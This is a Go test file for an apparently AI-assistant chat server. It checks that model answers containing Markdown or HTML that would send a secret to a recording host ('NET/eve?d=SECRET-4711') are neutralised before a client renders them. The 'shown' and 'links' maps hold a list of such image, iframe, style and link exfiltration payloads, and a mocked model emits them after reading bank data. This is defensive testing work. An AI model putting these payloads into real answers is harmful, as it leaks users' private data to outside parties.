package injection_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	unsafe "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"steward/internal/server/auth"
	"steward/internal/server/openai"
)

// shown are answers that make a client fetch something when it displays them.
// NET stands for the server that records its callers.
var shown = map[string]string{
	"an image":                 "Look: ![cat](NET/eve?d=SECRET-4711)",
	"an image by reference":    "Look: ![cat][c]\n\n[c]: NET/eve?d=SECRET-4711\n",
	"an image by its name":     "Look: ![cat]\n\n[cat]: <NET/eve?d=SECRET-4711>\n",
	"an image in a link":       "[![cat](NET/eve?d=SECRET-4711)](https://example.com)",
	"an image after a mark":    "Look!![cat](NET/eve?d=SECRET-4711)",
	"an image in HTML":         "Look: <img src=\"NET/eve?d=SECRET-4711\">",
	"an image without a space": "<div>\n<IMG/src=NET/eve?d=SECRET-4711>\n</div>",
	"an image in a block":      "<div>\n<picture><source srcset=NET/eve?d=SECRET-4711><img></picture>\n</div>",
	"a frame":                  "<iframe src=\"NET/eve?d=SECRET-4711\"></iframe>",
	"a video":                  "<video poster='NET/eve?d=SECRET-4711'></video>",
	"a style sheet":            "<link rel=stylesheet href=NET/eve?d=SECRET-4711>",
	"a style":                  "<p title='>' style=\"background:url(NET/eve?d=SECRET-4711)\">x</p>",
	"a background":             "<table background=NET/eve?d=SECRET-4711><tr><td>x</table>",
}

// links are answers that fetch something only if somebody follows them.
var links = map[string]string{"a link": "[x](NET/eve?d=SECRET-4711)", "an address": "<NET/eve?d=SECRET-4711>", "a link in HTML": "<a href=NET/eve?d=SECRET-4711>x</a>"}

var address = regexp.MustCompile(`https?://[^\s"')>]+`)

// show displays an answer like a client that renders all Markdown and HTML, and
// fetches what a browser would.
func show(t *testing.T, answer string) {
	t.Helper()
	var page bytes.Buffer
	if err := goldmark.New(goldmark.WithRendererOptions(unsafe.WithUnsafe())).Convert([]byte(answer), &page); err != nil {
		t.Fatal(err)
	}
	root, err := html.Parse(&page)
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode || n.Data == "a" {
			continue
		}
		for _, a := range n.Attr {
			if u := address.FindString(a.Val); u != "" && a.Key != "title" {
				res, err := http.Get(u)
				if err != nil {
					t.Fatal(err)
				}
				res.Body.Close()
			}
		}
	}
}

// ask makes one turn over OpenAI's protocol, as a client does.
func ask(t *testing.T, s *httptest.Server, stream bool) string {
	t.Helper()
	res, err := http.Post(s.URL+"/v1/chat/completions", "application/json",
		strings.NewReader(fmt.Sprintf(`{"model":"agent:assistant","stream":%v,"messages":[{"role":"user","content":"What is new?"}]}`, stream)))
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil || res.StatusCode != http.StatusOK {
		t.Fatalf("%v %s", err, b)
	}
	var out strings.Builder
	for line := range strings.Lines(string(b)) {
		line = strings.TrimPrefix(strings.TrimSpace(line), "data: ")
		var x struct {
			Choices []struct{ Delta, Message struct{ Content string } }
		}
		if json.Unmarshal([]byte(line), &x) == nil && len(x.Choices) > 0 {
			out.WriteString(x.Choices[0].Delta.Content + x.Choices[0].Message.Content)
		}
	}
	return out.String()
}

// A client that displays an answer received over OpenAI's protocol fetches
// nothing, whether the answer is streamed or not.
func TestAnAnswerFetchesNothing(t *testing.T) {
	w := newWorld(t, judgeOf(t, "unfixed"))
	w.reset()
	h := openai.Handler(openai.Options{Node: w.node, Logger: slog.New(slog.DiscardHandler)})
	s := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		h.ServeHTTP(rw, r.WithContext(auth.With(r.Context(), auth.Caller{User: person})))
	}))
	defer s.Close()
	fetched := func() (n int) {
		w.mu.Lock()
		defer w.mu.Unlock()
		n, w.hits = len(w.hits), nil
		return n
	}
	say := func(text string) string {
		text = strings.ReplaceAll(text, "NET", w.net.URL)
		w.model.think(func(v *view) reply {
			if _, made := v.turn(); len(made) == 0 {
				return reply{calls: []call{readBank}}
			}
			return reply{text: text}
		})
		return text
	}
	for name, text := range shown {
		text = say(text)
		if show(t, text); fetched() == 0 {
			t.Errorf("%s: nothing is fetched even as it is: it proves nothing", name)
		}
		for _, size := range []int{0, 1, 3} {
			w.model.cut(size)
			for _, stream := range []bool{false, true} {
				got := ask(t, s, stream)
				if !strings.Contains(got, "SECRET-4711") {
					t.Errorf("%s: the answer did not come: %q", name, got)
				}
				if show(t, got); fetched() > 0 {
					t.Errorf("%s, in pieces of %d, stream %v: somebody is called by %q", name, size, stream, got)
				}
			}
		}
		w.model.cut(0)
	}
	for name, text := range links {
		text = say(text)
		got := ask(t, s, true)
		if show(t, got); got != text || fetched() > 0 {
			t.Errorf("%s: %q became %q", name, text, got)
		}
	}
}
